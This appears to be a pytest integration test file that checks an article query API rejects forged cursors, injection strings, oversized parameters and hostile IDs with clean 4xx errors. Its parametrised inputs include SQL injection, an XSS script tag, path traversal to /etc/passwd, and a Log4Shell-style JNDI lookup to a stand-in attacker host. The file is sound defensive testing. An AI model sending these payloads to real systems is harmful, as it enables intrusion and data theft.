"""The query API under abuse: tampered and forged cursors, injection attempts, oversize and malformed parameters.

Requests go over HTTP with a valid SigV4 signature to the deployed query function (template in moto), so what is
tested is the API a signed-in caller can reach. Every refusal is a 4xx with a JSON body naming the parameter at
fault; nothing is a 5xx, and no request reads outside the partition its parameters name.
"""

from __future__ import annotations

import base64
import json
from collections.abc import Iterator
from dataclasses import dataclass
from typing import Any

import boto3
import pytest
from moto import mock_aws

from article_ingest.client import ArticleIndexClient
from article_ingest.local.api_server import QueryApiServer, serve_stack_query_api
from article_ingest.local.moto_patches import item_level_transaction_rollback
from article_ingest.local.stack import LocalStack
from tests.integration.query_stack import corpus, publish

pytestmark = pytest.mark.integration


@dataclass
class Api:
    server: QueryApiServer
    client: ArticleIndexClient

    def get(self, path: str, query: str = "") -> tuple[int, dict[str, Any]]:
        """One signed GET of exactly this path and (already encoded) query string."""
        status, body, _ = self.client._send(self.server.url + path + (f"?{query}" if query else ""))
        try:
            document = json.loads(body)
        except ValueError:
            document = {"raw": body.decode("utf-8", "replace")[:200]}
        return status, document


@pytest.fixture(scope="module")
def api() -> Iterator[Api]:
    with (
        mock_aws(config={"lambda": {"use_docker": False}}),
        item_level_transaction_rollback(),
    ):  # else moto copies the whole table per transaction item
        stack = LocalStack.deploy(boto3.session.Session(region_name="us-east-1"), stack_name="api-abuse")
        publish(stack, corpus(stack.resources.clean_bucket, count=12))
        with serve_stack_query_api(stack) as server:
            yield Api(server, ArticleIndexClient(server.url, session=stack.session, sleep=lambda _s: None))


def _cursor(api: Api) -> str:
    status, page = api.get("/articles", "tag=niger&limit=1")
    assert status == 200
    assert page["next_cursor"], "the corpus needs two Niger articles for a cursor"
    cursor: str = page["next_cursor"]
    return cursor


def _b64(document: object) -> str:
    return base64.urlsafe_b64encode(json.dumps(document).encode()).decode().rstrip("=")


def _tampered(cursor: str) -> dict[str, str]:
    payload, mac = cursor.split(".")
    decoded = json.loads(base64.urlsafe_b64decode(payload + "=" * (-len(payload) % 4)))
    widened = {**decoded, "p": "ARTICLE#"}  # point the page start at another partition's keys
    return {
        "swapped halves": f"{mac}.{payload}",
        "payload edited, old signature": f"{_b64(widened)}.{mac}",
        "forged unsigned": _b64(widened),
        "signature dropped": f"{payload}.",
        "one bit flipped": payload[:-1] + ("A" if payload[-1] != "A" else "B") + "." + mac,
        "NUL byte": "%00",
        "not base64": "%%%%.****",
        "JSON array payload": f"{_b64([1, 2, 3])}.{mac}",
    }


def test_every_tampered_or_forged_cursor_is_a_400_naming_the_cursor(api: Api) -> None:
    for what, cursor in _tampered(_cursor(api)).items():
        status, body = api.get("/articles", f"tag=niger&limit=1&cursor={cursor}")
        assert (status, body.get("parameter")) == (400, "cursor"), what


def test_an_oversize_cursor_is_refused_before_it_is_decoded(api: Api) -> None:
    status, body = api.get("/articles", "tag=niger&cursor=" + "A" * 5000)
    assert status == 422
    assert body["errors"][0]["parameter"] == "cursor"


@pytest.mark.parametrize(
    "value",
    [
        "' OR 1=1 --",
        '" OR ""="',
        "niger#ARTICLE",  # the index's key separator: must not reach other partitions
        "ARTICLE#u-0",
        "${jndi:ldap://attacker.example/a}",
        "{{7*7}}",
        "<script>alert(1)</script>",
        "../../etc/passwd",
        "*",
        "%",
        "niger\u202e",  # right-to-left override
    ],
)
def test_injection_attempts_are_plain_lookups_that_find_nothing(api: Api, value: str) -> None:
    # Parameters only ever become a DynamoDB key value under a fixed prefix: there is no query language to inject
    # into. The strings are legal tag/author/site values, so the honest answer is an empty page, not an error.
    for name in ("tag", "author", "site"):
        status, body = api.get("/articles", _query({name: value}))
        assert status == 200, (name, body)
        assert body == {"items": [], "next_cursor": None}, name


@pytest.mark.parametrize(
    ("query", "status", "parameter"),
    [
        ("tag=" + "a" * 513, 422, "tag"),
        ("author=" + "a" * 513, 422, "author"),
        ("site=" + "a" * 254, 422, "site"),
        ("url=https%3A%2F%2Fexample.com%2F" + "a" * 2100, 422, "url"),
        ("tag=niger&limit=101", 422, "limit"),
        ("tag=niger&limit=0", 422, "limit"),
        ("tag=niger&limit=-1", 422, "limit"),
        ("tag=niger&limit=1e9", 422, "limit"),
        ("tag=niger&limit=99999999999999999999999999", 422, "limit"),
        ("day=2026-02-30", 422, "day"),
        ("day=0000-01-01", 422, "day"),
        ("day=20260227", 422, "day"),
        ("tag=niger&since=2026-02-25T00:00:00", 422, "since"),  # no offset: which instant?
        ("tag=niger&until=yesterday", 422, "until"),
        ("tag=niger&include=everything", 422, "include"),
        ("tag=niger&tag=water", 422, "tag"),
        ("tag=niger&include=body", 400, None),
        ("site=a&tag=b", 400, None),
        ("", 400, None),
        ("tag=niger&debug=1", 400, None),
    ],
)
def test_oversize_and_malformed_parameters_are_clear_4xx(
    api: Api, query: str, status: int, parameter: str | None
) -> None:
    got, body = api.get("/articles", query)
    assert got == status, body
    assert body["statusCode"] == status
    assert body["message"]
    if parameter is not None:
        assert parameter in body["message"]


@pytest.mark.parametrize(
    "path",
    [
        "/articles/..%2F..%2Fetc%2Fpasswd",
        "/articles/%00",
        "/articles/" + "u" * 129,
        "/articles/u-1%20OR%201=1",
        "/articles/%3Cscript%3E",
    ],
)
def test_hostile_article_ids_are_refused_by_the_id_pattern(api: Api, path: str) -> None:
    status, body = api.get(path)
    assert status == 422, body
    assert body["errors"][0]["parameter"] == "article_id"


def test_control_characters_in_a_text_parameter_are_refused(api: Api) -> None:
    for value in ("%00", "a%0Ab", "%1B%5B31m", "a%7F"):
        status, body = api.get("/articles", f"tag={value}")
        assert 400 <= status < 500, (value, status, body)


def test_unknown_routes_and_oversize_requests_are_4xx_not_5xx(api: Api) -> None:
    assert api.get("/articles/u-1/extra")[0] == 404
    assert api.get("/admin")[0] == 404
    status, _ = api.get("/articles", "tag=" + "x" * 100_000)  # past any gateway's URL limit
    assert 400 <= status < 500


def test_error_bodies_never_leak_internals(api: Api) -> None:
    for path, query in (("/articles", "tag=niger&cursor=%%%%"), ("/articles/%00", ""), ("/articles", "day=x")):
        _, body = api.get(path, query)
        text = json.dumps(body)
        for leak in ("Traceback", 'File "', "botocore", "dynamodb", "arn:aws", "Exception"):
            assert leak not in text, (path, query, leak)


def _query(params: dict[str, str]) -> str:
    from urllib.parse import quote, urlencode

    return urlencode(params, quote_via=quote)
